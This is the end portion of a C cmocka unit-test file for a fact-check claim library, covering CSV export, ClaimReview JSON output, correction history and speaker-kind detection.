	m = open_memstream(&buf, &len);
	assert_non_null(m);
	assert_cl_ok(cl_csv_row(m, &fact, "ed", 0, &err), &err);
	fclose(m);
	assert_non_null(strstr(buf, ",The aide," AIDE_SAID ",https://example.org/camps,manual,true,5,"));
	free(buf);
	/* ClaimReview: the words rated are the current ones. */
	o = cl_fact_claimreview(&fact, NULL);
	assert_non_null(o);
	assert_string_equal(json_string_value(json_object_get(o, "claimReviewed")), AIDE_SAID);
	json_decref(o);
	cl_fact_free(&fact);

	/* A claim that recorded no kind gets one from a correction. */
	bare = append(f, "{\"type\":\"claim\",\"text\":\"t\",\"speaker\":\"S\","
			 "\"source\":\"https://example.org/s\",\"date\":\"2021-11-22\"}", 0);
	append(f, "{\"type\":\"correction\",\"target\":\"%s\",\"reason\":\"r\","
		  "\"kind\":\"indirect\"}", bare);
	load(f, bare, CL_FACT_HISTORY, &fact);
	assert_string_equal(cl_fact_str(&fact, "kind"), "indirect");
	ch = json_object_get(json_object_get(json_array_get(fact.history, 0), "changes"), "kind");
	assert_true(json_is_null(json_object_get(ch, "from")));
	cur = cl_fact_current_json(&fact);
	assert_string_equal(json_string_value(json_object_get(cur, "kind")), "indirect");
	assert_null(json_object_get(cur, "offset"));
	json_decref(cur);
	cl_fact_free(&fact);
}

static void test_speaker_kind(void **state)
{
	(void)state;
	assert_int_equal(cl_speaker_is_org("US State Department"), 1);
	assert_int_equal(cl_speaker_is_org("Ministry of Health"), 1);
	assert_int_equal(cl_speaker_is_org("Antony Blinken"), 0);
	assert_int_equal(cl_speaker_is_org("Vincent Price"), 0); /* not "inc" */
	assert_int_equal(cl_speaker_is_org(""), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_scale),
		cmocka_unit_test(test_csv_quoting),
		cmocka_unit_test(test_csv_formula_guard),
		cmocka_unit_test(test_speaker_kind),
		cmocka_unit_test_setup_teardown(test_verdict_correction, setup, teardown),
		cmocka_unit_test_setup_teardown(test_current_view, setup, teardown),
		cmocka_unit_test_setup_teardown(test_not_a_claim, setup, teardown),
		cmocka_unit_test_setup_teardown(test_csv_export, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claimreview, setup, teardown),
		cmocka_unit_test_setup_teardown(test_lang_member, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claimreview_hostile, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claimreview_verdict, setup, teardown),
		cmocka_unit_test(test_article_date),
		cmocka_unit_test_setup_teardown(test_view_kind_span, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
